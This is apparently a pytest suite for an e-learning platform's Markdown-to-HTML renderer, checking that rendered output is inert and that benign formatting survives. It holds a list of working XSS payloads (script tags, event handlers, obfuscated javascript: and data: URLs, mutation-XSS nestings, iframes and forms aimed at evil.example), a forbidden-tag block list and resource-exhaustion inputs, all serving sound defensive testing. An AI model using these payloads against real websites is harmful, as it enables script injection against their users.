"""render_markdown never lets executable content through, and keeps benign formatting."""

from __future__ import annotations

from html.parser import HTMLParser

import pytest

from elearn.courses.allowlist import ALLOWED_TAGS, url_scheme
from elearn.courses.render import RenderError, render_markdown

ATTACKS = [
    "<script>alert(1)</script>",
    "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
    "<img src=x onerror=alert(1)>",
    '<a href="#" onclick="alert(1)">klik</a>',
    "<body onload=alert(1)>",
    "[klik](javascript:alert(1))",
    "[klik](JaVaScRiPt:alert(1))",
    "[klik](&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;alert(1))",
    "[klik](&#x6A;avascript&#x3A;alert(1))",
    "[klik](java\tscript:alert(1))",
    "[klik](vbscript:msgbox(1))",
    "[klik](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
    "![x](javascript:alert(1))",
    "![x](data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+)",
    '<a href="javascript:alert(1)">x</a>',
    '<a href="jav&#x09;ascript:alert(1)">x</a>',
    '<a href=" javascript:alert(1)">x</a>',
    '<img src="data:image/png;base64,AAAA">',
    "<svg onload=alert(1)><circle r=5></circle></svg>",
    "<math><mtext><script>alert(1)</script></mtext></math>",
    '<iframe src="https://evil.example"></iframe>',
    '<object data="x.swf"></object><embed src="x.swf">',
    '<form action="https://evil.example"><input name=a><button>kirim</button></form>',
    "<style>body{background:url(javascript:alert(1))}</style>",
    '<p style="background:url(javascript:alert(1))">x</p>',
    "Judul {onclick=alert(1)}",
    "[tautan](https://example.com){target=_blank}",
    "[tautan](https://example.com){href=javascript:alert(1)}",
    "![x](assets/a.png){onerror=alert(1)}",
    "Paragraf {: style='color:red' .kelas-asing }",
    '<noscript><p title="</noscript><img src=x onerror=alert(1)>"></noscript>',
    "<svg><p><style><img src=x onerror=alert(1)></style></p></svg>",
    "<math><mi><table><mglyph><style><img src=x onerror=alert(1)>",
    '<meta http-equiv="refresh" content="0;url=javascript:alert(1)">',
    '<base href="https://evil.example/">',
    '<link rel="stylesheet" href="https://evil.example/x.css">',
    "<details open ontoggle=alert(1)><summary>x</summary></details>",
    '<a href="https://example.com" target="_blank">x</a>',
    "<!--<img src=x onerror=alert(1)>-->",
    '<img src="x` `<script>alert(1)</script>"` `>',
    "[x](<javascript:alert(1)>)",
    "[x][ref]\n\n[ref]: javascript:alert(1)",
    "<<script>script>alert(1)<</script>/script>",
]
FORBIDDEN_TAGS = {
    "script", "style", "svg", "math", "iframe", "object", "embed", "form", "input", "button", "meta", "base",
    "link", "noscript", "body",
}  # fmt: skip


class _Collector(HTMLParser):
    """Every start tag with its attributes, as a browser's tokenizer would see them."""

    def __init__(self) -> None:
        super().__init__(convert_charrefs=True)
        self.tags: list[tuple[str, dict[str, str | None]]] = []

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.tags.append((tag, dict(attrs)))


def parsed(html: str) -> list[tuple[str, dict[str, str | None]]]:
    collector = _Collector()
    collector.feed(html)
    collector.close()
    return collector.tags


def assert_inert(html: str) -> None:
    """No forbidden tag, no handler, no style, no target, and only safe URL schemes in href/src."""
    for tag, attributes in parsed(html):
        assert tag in ALLOWED_TAGS and tag not in FORBIDDEN_TAGS, (tag, html)
        for name, value in attributes.items():
            assert not name.startswith("on"), (name, html)
            assert name not in ("style", "target", "formaction", "srcdoc"), (name, html)
            if name in ("href", "src"):
                assert url_scheme(value or "") in (None, "http", "https", "mailto", "tel"), (value, html)


def test_at_least_thirty_attack_payloads() -> None:
    assert len(ATTACKS) >= 30


@pytest.mark.parametrize("payload", ATTACKS)
def test_attack_payload_rendered_inert(payload: str) -> None:
    assert_inert(render_markdown(payload))


@pytest.mark.parametrize("payload", ATTACKS)
def test_attack_payload_inert_inside_lesson_structure(payload: str) -> None:
    assert_inert(render_markdown(f"## Judul\n\n- butir\n\n> kutipan {payload}\n\n{payload}\n"))


def test_links_get_noopener_and_module_links_become_keys() -> None:
    tags = parsed(render_markdown("[a](https://example.com) [b](03-kuis-standar.md) [c](assets/x.pdf)"))
    links = [attributes for tag, attributes in tags if tag == "a"]
    assert [link["href"] for link in links] == ["https://example.com", "03-kuis-standar", "assets/x.pdf"]
    assert {link["rel"] for link in links} == {"noopener noreferrer"}


def test_benign_formatting_survives() -> None:
    html = render_markdown(
        "# Judul\n\n## Sub {#sub .note}\n\n- satu\n- dua\n\n1. a\n2. b\n\n| A | B |\n|:--|--:|\n| 1 | 2 |\n\n"
        "```python\nx = 1 < 2\n```\n\nTeks **tebal** *miring* `kode` dan catatan[^1].\n\n"
        '!!! warning "Perhatian"\n    Isi.\n\n![Alur](assets/alur.png){width=300 height=200}\n\n'
        "<kbd>Ctrl</kbd> <sub>2</sub>\n\n[^1]: Kaki.\n"
    )
    tags = parsed(html)
    names = [tag for tag, _ in tags]
    for expected in ("h1", "h2", "ul", "ol", "li", "table", "th", "td", "pre", "code", "strong", "em", "sup",
                     "div", "img", "kbd", "sub"):  # fmt: skip
        assert expected in names, expected
    attributes = {tag: attrs for tag, attrs in tags}
    assert attributes["img"] == {"alt": "Alur", "src": "assets/alur.png", "width": "300", "height": "200"}
    assert attributes["h2"] == {"id": "sub", "class": "note"}
    assert attributes["div"]["class"] in ("admonition warning", "footnote")
    assert "x = 1 &lt; 2" in html
    assert_inert(html)


def test_ten_thousand_brackets_rejected_quickly() -> None:
    with pytest.raises(RenderError, match="tanda"):
        render_markdown("[" * 10_000)


def test_two_thousand_deep_list_rejected() -> None:
    deep = "\n".join("  " * level + "- x" for level in range(2_000))
    with pytest.raises(RenderError, match="terlalu"):
        render_markdown(deep, max_bytes=10_000_000)


def test_deep_blockquote_rejected() -> None:
    with pytest.raises(RenderError, match="kutipan"):
        render_markdown(">" * 2_000 + " x")


def test_slow_shape_past_the_prescan_hits_the_time_budget() -> None:
    slow = "\n\n".join(["<a " * 400] * 12)
    with pytest.raises(RenderError, match="batas waktu"):
        render_markdown(slow, timeout=0.05)
    assert render_markdown("masih **jalan**") == "<p>masih <strong>jalan</strong></p>"


def test_oversized_text_rejected() -> None:
    with pytest.raises(RenderError, match="terlalu besar"):
        render_markdown("a" * 201_000)
